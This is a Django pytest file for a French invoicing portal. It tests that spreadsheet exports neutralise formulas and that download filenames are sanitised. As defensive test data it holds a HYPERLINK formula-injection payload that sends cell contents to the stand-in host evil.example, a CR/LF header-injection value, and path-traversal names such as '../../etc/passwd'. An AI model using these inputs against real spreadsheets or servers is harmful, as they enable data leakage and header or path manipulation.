"""Exports never carry a formula a spreadsheet would run, and names built from invoice numbers
or uploads download whatever they hold (« ../ », quotes, CR/LF)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from chorale.core.export import spreadsheet_safe
from chorale.core.files import safe_filename
from conftest import make_invoice, make_structure, make_user

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
HOSTILE_NUMBER = '../../etc/"F-1"\r\nX-Injected: 1'


@pytest.fixture
def signed_in(client, db):
    user = make_user("fournisseur@example.test")
    supplier = make_structure(user, identifier="98765432400019", company_name="ATELIER")
    recipient = make_structure(
        make_user("acheteur@example.test"),
        identifier="21990123800010",
        company_name=HOSTILE_NAME,
        is_private=False,
    )
    client.force_login(user)
    client.invoice = make_invoice(supplier, recipient, number=HOSTILE_NUMBER)
    make_invoice(supplier, recipient, number="+33 1 23 45 67 89")
    make_invoice(supplier, recipient, number="-1")
    make_invoice(supplier, recipient, number="@SUM(A1)")
    return client


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+331", "'+331"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ATELIER", "ATELIER"),
        (-2, -2),
    ],
)
def test_cells_starting_like_a_formula_are_written_as_text(value, shown):
    assert spreadsheet_safe(value) == shown


def test_the_csv_export_neutralises_formulas(signed_in):
    response = signed_in.get(reverse("portal:invoices_sent_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HOSTILE_NAME}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'+33 1 23 45 67 89", "'-1", "'@SUM(A1)"} <= set(cells)


def test_the_xlsx_export_holds_no_formula(signed_in):
    response = signed_in.get(reverse("portal:invoices_sent_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert f"'{HOSTILE_NAME}" in [cell.value for cell in cells]


def test_an_invoice_number_with_path_quotes_and_newlines_downloads(signed_in):
    invoice = signed_in.invoice
    response = signed_in.get(reverse("portal:invoice_sent_download", args=[invoice.pk, "xml"]))
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition
    assert disposition == 'attachment; filename="etc_F-1_X-Injected_1.xml"'
    selection = signed_in.post(
        reverse("portal:invoices_sent_bulk"),
        {"selection": [invoice.pk], "operation": "xml"},
    )
    names = zipfile.ZipFile(io.BytesIO(selection.content)).namelist()
    assert names == ["98765432400019-.._.._etc_F-1_X-Injected_1.xml"]  # one entry, no folder


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "etc_passwd"),
        ("F/2026/001", "F_2026_001"),
        ("..\\..\\boot.ini", "boot.ini"),
        ('F"1\r\n.pdf', "F_1_.pdf"),
        ("Facture été.pdf", "Facture_ete.pdf"),
        ("....", "fichier"),
        ("", "fichier"),
    ],
)
def test_safe_filename(name, safe):
    assert safe_filename(name) == safe


def test_the_csv_reads_the_french_way_and_the_raw_form_is_for_programs(signed_in):
    from decimal import Decimal

    from chorale.invoicing.models import InvoiceRecord

    phone = InvoiceRecord.objects.filter(number="+33 1 23 45 67 89")
    phone.update(total_with_vat=Decimal("2856.5"))
    url = reverse("portal:invoices_sent_export", args=["csv"])
    french = signed_in.get(url, {"numero": "+33"}).content
    assert french.startswith("\ufeff".encode())
    header, row = list(csv.reader(io.StringIO(french.decode("utf-8-sig")), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert (cells["Montant TTC"], cells["Date"], cells["Type"]) == (
        "2856,50",
        "02/11/2026",
        "Facture",
    )
    raw = signed_in.get(url, {"numero": "+33", "forme": "brute"}).content
    assert not raw.startswith("\ufeff".encode())
    header, row = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    cells = dict(zip(header, row, strict=True))
    assert (cells["Montant TTC"], cells["Date"]) == ("2856.50", "2026-11-02")


def test_the_xlsx_holds_numbers_and_dates_with_french_formats(signed_in):
    import datetime
    from decimal import Decimal

    from chorale.invoicing.models import InvoiceRecord

    phone = InvoiceRecord.objects.filter(number="+33 1 23 45 67 89")
    phone.update(total_with_vat=Decimal("2856.5"))
    response = signed_in.get(
        reverse("portal:invoices_sent_export", args=["xlsx"]), {"numero": "+33"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(values_only=False))
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    assert cells["Montant TTC"].value == 2856.5 and cells["Montant TTC"].number_format == "#,##0.00"
    assert cells["Date"].value == datetime.datetime(2026, 11, 2)
    assert cells["Date"].number_format == "DD/MM/YYYY"
    assert header[0].font.bold
